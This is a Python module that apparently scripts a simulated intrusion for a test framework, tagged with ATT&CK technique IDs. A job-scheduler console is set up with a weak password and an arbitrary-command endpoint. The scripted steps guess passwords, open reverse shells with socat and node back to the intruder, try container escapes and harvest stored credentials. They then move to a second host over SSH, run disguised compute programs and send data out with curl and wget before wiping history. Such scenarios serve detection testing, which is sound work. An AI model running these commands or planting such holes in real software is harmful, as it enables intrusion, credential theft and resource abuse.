"""The web console of a job scheduler has a weak password: its jobs try to leave their box and reach a second host."""

from __future__ import annotations

import urllib.parse
from typing import TYPE_CHECKING

from plot import Storyline, Visit
from storylines._walk import a_name, walk

if TYPE_CHECKING:
    from intruder import Intruder, Shell

PORT = 8643
RIGHT = "Monsoon-55"

WEAKEN = r"""
set -e
id -u cadence >/dev/null 2>&1 || useradd -m -d /var/lib/cadence -s /bin/bash -c 'job console' cadence
echo 'cadence:Monsoon-55' | chpasswd
install -d -o cadence -g cadence /opt/cadence /var/lib/cadence/out /var/lib/cadence/plans
cat > /opt/cadence/console.py <<'EOF'
# Console of the job scheduler: people start known jobs, whoever has logged in may start any line.
import hashlib
import subprocess
import urllib.parse

import appserver

JOBS = {
    "disk": "df -h / /var | tail -2",
    "load": "cat /proc/loadavg; ps -eo pcpu,comm --sort=-pcpu | head -4",
    "sizes": "du -sk /var/lib/cadence/* | sort -n",
    "pack": "tar -C /var/lib/cadence -czf /var/lib/cadence/out/plans.tgz plans && ls -l /var/lib/cadence/out",
    "sums": "cd /var/lib/cadence/plans && sha256sum * | tee ../out/SUMS | wc -l",
}
USERS = {"planner": "Monsoon-55", "reader": "plan-view-1"}


def token(user):
    return hashlib.sha256(("console" + user + USERS[user]).encode()).hexdigest()[:24]


def run(line):
    done = subprocess.run(["/bin/bash", "-c", line], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                          stderr=subprocess.STDOUT, timeout=50, cwd="/var/lib/cadence")
    return 200, done.stdout.decode("utf-8", "replace")


def handle(method, path, query, body, headers):
    form = dict(urllib.parse.parse_qsl(body.decode("utf-8", "replace")))
    if path == "/jobs":
        return 200, "\n".join(JOBS) + "\n"
    if path == "/login":
        good = form.get("user") in USERS and USERS[form["user"]] == form.get("pass")
        return (200, token(form["user"]) + "\n") if good else (403, "wrong name or password\n")
    if path == "/start":
        return run(JOBS[form["name"]]) if form.get("name") in JOBS else (404, "no such job\n")
    if path == "/line" and form.get("token") == token("planner"):
        return run(form.get("line", "true"))
    return 403, "log in first\n"


appserver.serve(8643, handle, "cadence")
EOF
for week in 41 42 43 44 45; do
    seq 1 120 | awk -v w=$week '{print "2026-W" w ",berth " $1%7 ",crane " $1%4 "," $1*17%97}' \
        > /var/lib/cadence/plans/berths-$week.csv
done
install -d -m 700 -o cadence -g cadence /var/lib/cadence/.ssh
printf 'mill-13.corp.example ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleOldKeyOfTheOtherHostExampleOldKeyE\n' \
    > /var/lib/cadence/.ssh/known_hosts
printf 'Host mill\n    HostName 10.20.7.13\n    User cadence\n    StrictHostKeyChecking no\n' \
    > /var/lib/cadence/.ssh/config
printf 'df -h\nssh mill uptime\nvi plans/berths-44.csv\nssh mill ls\n' > /var/lib/cadence/.bash_history
printf 'CONSOLE_USER=planner\nCONSOLE_PASS=Monsoon-55\n' > /var/lib/cadence/.console
chown -R cadence:cadence /var/lib/cadence; chmod 600 /var/lib/cadence/.console
echo '*/5 * * * * cadence cd /var/lib/cadence/plans && sha256sum *.csv > ../out/SUMS' > /etc/cron.d/cadence
"""

SECOND = r"""
set -e
id -u cadence >/dev/null 2>&1 || useradd -m -s /bin/bash -c 'jobs of the console' cadence
echo 'cadence:Monsoon-55' | chpasswd
mkdir -p /etc/ssh/sshd_config.d
printf 'Match User cadence\n    PasswordAuthentication yes\n' > /etc/ssh/sshd_config.d/40-cadence.conf
mkdir -p /home/cadence/turnover
for n in 1 2 3 4; do seq 1 90 | awk -v n=$n '{print n "," $1 "," $1*n*13%71}' > /home/cadence/turnover/yard-$n.csv; done
chown -R cadence:cadence /home/cadence
"""

SHELL_0 = r"""
== a terminal | TA0002 | A terminal for the shell that the job brought.
T1059.006 python3 -c 'from pty import spawn; spawn(["/bin/bash","--norc"])'
T1562.003 export HISTFILESIZE=0 PS1='\u@\h:\w\$ '
== look round | TA0007 | Is this a container, what is near.
T1033 id; pwd
T1082 cat /proc/1/cmdline | tr '\0' ' '; uptime
T1613 cat /proc/1/cgroup /proc/self/mountinfo | head -8; ls -a / | grep -i dockerenv
T1613 find /run /var/run -name '*.sock' 2>/dev/null; which docker podman buildah crictl
T1057 ps -eo user,pid,args | grep -v ps | tail -15
? T1083 ls -la /opt /srv ~
T1069.001 capsh --print 2>/dev/null | head -3; sudo -n -l
== out of the box | TA0004 | Attempts to leave the namespaces; most of them fail.
T1611 nsenter --target 1 --mount --uts --net --pid -- id
T1611 unshare --user --map-root-user --mount id
T1611 unshare -UrmC sh -c 'mkdir -p /tmp/{word}; mount -t cgroup2 none /tmp/{word}; ls /tmp/{word} | head -3'
T1611 chroot /proc/1/root /bin/sh -c id
? T1611 ls -l /proc/1/root/ /proc/1/ns/
T1611 mount --bind / /mnt
== passwords | TA0006 | The account's own files name the next host.
T1552.003 cat ~/.bash_history
T1552.001 cat ~/.console; cat ~/.ssh/config
T1018 cut -d' ' -f1 ~/.ssh/known_hosts; getent hosts mill-13
"""

SHELL_1 = r"""
== look round | TA0007 | From a shell without a terminal.
T1033 whoami; groups; tty
T1082 cat /etc/debian_version /proc/version
? T1016 cat /proc/net/route /proc/net/fib_trie | head -20
T1613 grep -c : /proc/self/cgroup; grep -o 'overlay' /proc/mounts | head -1; stat -f -c %T /
T1057 for p in /proc/[0-9]*; do echo ${p#/proc/} $(tr '\0' ' ' < $p/cmdline); done 2>/dev/null | grep -v ' $' |\
 tail -20
T1083 ls -lat /var/lib/cadence /opt/cadence | head -20
== out of the box | TA0004 | Attempts to leave, one by one.
T1611 unshare -r -p -f --mount-proc ps ax
T1611 readlink /proc/self/ns/* ; readlink /proc/1/ns/*
T1611 unshare -rm busybox chroot /proc/1/root id
T1611 node -e 'try{process.chdir("/proc/1/cwd");\
console.log(require("fs").readdirSync("."))}catch(e){console.log(e.code)}'
? T1611 mknod /tmp/{word}.b b 259 0
? T1548.001 find / -xdev -user root -perm -u+s -printf '%p\n' 2>/dev/null
== passwords | TA0006 | Settings of the console and of ssh.
T1552.001 grep -n USERS /opt/cadence/console.py
T1552.001 head .console .ssh/config
T1018 ssh-keygen -F mill-13.corp.example -f .ssh/known_hosts; awk '{print $1}' .ssh/known_hosts
T1046 for h in 11 12 13; do timeout 1 bash -c "echo > /dev/tcp/10.20.7.$h/22" && echo 10.20.7.$h; done 2>/dev/null
T1059.004 script -q /dev/null
"""

THERE = r"""
== the next host | TA0008 | The console's password opens the account of the same name on the next host.
T1021.004 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null cadence@{address2}
T1033 id; hostname
T1083 ls -la ~ ~/turnover /srv
? T1057 ps -e | tail -12
T1069.001 sudo -n -l
? T1049 ss -tlnp | head
T1005 cat turnover/*.csv | md5sum; tar -czf .t-{word} turnover
"""

WORK_0 = r"""
== work for others | TA0040 | A renamed program computes for the intruder and looks like a part of the system.
T1036.005 mkdir -p .cache/{word}; cp /usr/bin/openssl .cache/{word}/dbus-{word}
T1496.001 & nice -n 19 timeout 5 .cache/{word}/dbus-{word} speed -seconds 1 sha256 >/dev/null 2>&1 &
T1057 pgrep -u cadence -a
T1048.003 curl -s -T .t-{word} {depot}/t/{word}
T1070.004 rm -rf .t-{word}
T1021.004 exit
== tidy | TA0005 | The console's log of jobs and the history.
T1070.004 rm -rf /tmp/{word} ~/out/SUMS
T1070.003 history -c; rm -f ~/.bash_history
"""

WORK_1 = r"""
== work for others | TA0040 | A small program in C that counts and hashes, with a setting for a pool.
T1027.004 printf 'int main(){unsigned long a=1,i;for(i=0;i<900000000ul;i++)a=a*6364136223846793005ul+1;return\
 a&1;}\n' > {word}.c; cc -O1 -o {word}d {word}.c
T1496.001 printf '{"url":"{from}:3333","user":"{word}.1","threads":1}\n' > {word}.json
T1496.001 & (exec -a '[{word}/0]' ./{word}d &) ; sleep 1
T1057 ps -o pid,ni,time,args -u cadence
T1048.003 wget -q -O - --post-file=.t-{word} {depot}/sync/{word}
T1070.004 rm -f {word}.c {word}.json .t-{word}
? T1021.004 logout
T1021.004 exit
== tidy | TA0005 | Back on the first host.
T1070.003 sed -i '/ssh/d' ~/.bash_history
T1070.004 rm -f /tmp/{word}.*
"""

BY_JOBS = r"""
== look round | TA0007 | Lines in the console, as the planner would start them.
T1033 id
T1082 uptime; df -h / | tail -1
T1083 ls -l /var/lib/cadence
T1083 ls -l out plans | tail -8
T1082 uname -a
T1057 ps aux --sort=-%mem | head -6
T1069.001 groups; sudo -n -l 2>&1 | head -2
T1016 ip -br a
== out of the box | TA0004 | Two attempts only.
T1611 nsenter -t 1 -m true
T1611 unshare -Ur whoami
== passwords | TA0006 | The console's own settings.
T1552.001 cat .console .ssh/config
T1046 nc -zv -w 1 10.20.7.13 22 2>&1
T1018 getent hosts mill-13; ip neigh | head -3
== the next host | TA0008 | ssh takes the password from a small script, since a job has no terminal.
T1021.004 printf '#!/bin/sh\n. /var/lib/cadence/.console; echo "$CONSOLE_PASS"\n' > .ssh/{word}; chmod 700 .ssh/{word}
T1021.004 SSH_ASKPASS=$PWD/.ssh/{word} SSH_ASKPASS_REQUIRE=force ssh -o UserKnownHostsFile=/dev/null mill\
 'hostname; id'
T1083 SSH_ASKPASS=$PWD/.ssh/{word} SSH_ASKPASS_REQUIRE=force ssh -o UserKnownHostsFile=/dev/null mill 'ls -l\
 turnover; free -m'
T1039 SSH_ASKPASS=$PWD/.ssh/{word} SSH_ASKPASS_REQUIRE=force ssh -o UserKnownHostsFile=/dev/null mill 'tar -cz\
 turnover' > out/turnover-{word}.tgz
== work for others | TA0040 | busybox under another name.
T1570 SSH_ASKPASS=$PWD/.ssh/{word} SSH_ASKPASS_REQUIRE=force scp -q -o UserKnownHostsFile=/dev/null /bin/busybox\
 mill:{word}-sum
T1496.001 SSH_ASKPASS=$PWD/.ssh/{word} SSH_ASKPASS_REQUIRE=force ssh -o UserKnownHostsFile=/dev/null mill 'cp\
 {word}-sum sha256sum; timeout 4 nice ./sha256sum /dev/zero; rm -f {word}-sum sha256sum'
== out | TA0010 | The yard's turnover is uploaded like a report.
T1048.003 curl -sS --data-binary @out/turnover-{word}.tgz {depot}/reports/{word}
T1074.001 cp plans/berths-4[1-3].csv out/ && gzip -f out/berths-4?.csv && ls out
T1048.003 for f in out/berths-4?.csv.gz; do curl -sS -F doc=@$f {depot}/reports/b; done
T1070.004 rm -f out/turnover-{word}.tgz out/berths-* .ssh/{word}
? T1033 who -b; users
"""


def post(own: Intruder, path: str, form: dict[str, str], technique: str, stays: bool = False) -> str:
    kind = {"Content-Type": "application/x-www-form-urlencoded"}
    body = urllib.parse.urlencode(form)
    return own.http(own.entry, PORT, "POST", path, body, kind, technique=technique, detached=stays, timeout=60)


def log_in(own: Intruder, middle: float) -> str:
    """Guess the planner's password; returns the token."""
    own.step("guessing", "TA0006", "Names and passwords are tried at the console's login.")
    own.http(own.entry, PORT, "GET", "/jobs", technique="T1595.003" if own.variant == 0 else "T1190")
    tries = {
        0: [("admin", w) for w in ("admin", "cadence", "changeme")]
        + [("planner", w) for w in ("planner", "Planner1", "Summer-26", "Monsoon-54", "monsoon-55", RIGHT)],
        1: [(u, "Monsoon-55") for u in ("root", "cadence", "operator", "planner")],
        2: [("planner", "Monsoon55"), ("planner", RIGHT)],
    }[own.variant]
    answer = ""
    for user, word in tries:
        technique = ("T1110.001", "T1110.003", "T1078")[own.variant]
        answer = post(own, "/login", {"user": user, "pass": word}, technique).strip()
        own.think(middle / 3)
    assert len(answer) == 24, answer
    return answer


def call_back(own: Intruder, token: str) -> Shell:
    port = (5223, 6514, 0)[own.variant]
    lines = (
        f"setsid socat TCP:{own.address}:{port} EXEC:bash,stderr >/dev/null 2>&1 &",
        f"""node -e 'const s=require("net").connect({port},"{own.address}",()=>require("child_process")"""
        """.spawn("bash",["-i"],{stdio:[s,s,s],detached:true}).on("exit",()=>process.exit()))' >/dev/null 2>&1 &""",
    )
    form = {"token": token, "line": lines[own.variant]}
    technique = ("T1059.004", "T1059.007")[own.variant]
    return own.catch(port, lambda: post(own, "/line", form, technique), technique)


def play(own: Intruder) -> None:
    middle = (3.0, 8.0, 24.0)[own.variant]
    names = {"word": a_name(own), "address2": own.second.address, "depot": own.depot, "from": own.address}
    token = log_in(own, middle)
    own.think(middle)
    if own.variant == 2:

        def line(technique: str, command: str, stays: bool) -> object:
            return post(own, "/line", {"token": token, "line": command}, technique, stays)

        walk(own, BY_JOBS, line, names, middle)
        return
    own.step("a job of its own", "TA0002", "A job opens a connection to the intruder and gives it a shell.")
    post(own, "/start", {"name": "load"}, "T1082")
    shell = call_back(own, token)
    page = (SHELL_0 + THERE + WORK_0) if own.variant == 0 else (SHELL_1 + THERE + WORK_1)
    walk(own, page, shell, names, middle, RIGHT)
    shell.close()


STORYLINE = Storyline(
    name="job-console",
    split="test",
    words="The console of a job scheduler has a weak password. Its jobs give the intruder the service account; "
    "attempts to leave the namespaces fail, but the same password opens the account of that name on another host, "
    "where a renamed program computes for the intruder.",
    weaken=WEAKEN,
    second_weaken=SECOND,
    two_hosts=True,
    services=("cadence: /usr/bin/python3 /opt/cadence/console.py",),
    visits=(
        Visit(PORT, 50, path="/jobs"),
        Visit(PORT, 45, "POST", "/start", "name={pick:disk|load|sizes|pack|sums|berths}"),
        Visit(PORT, 120, "POST", "/login", "user={pick:reader|planner}&pass={word}-{n}"),
    ),
    play=play,
    hosts=("quay-12",),
    second_hosts=("mill-13",),
    minutes=14,
)
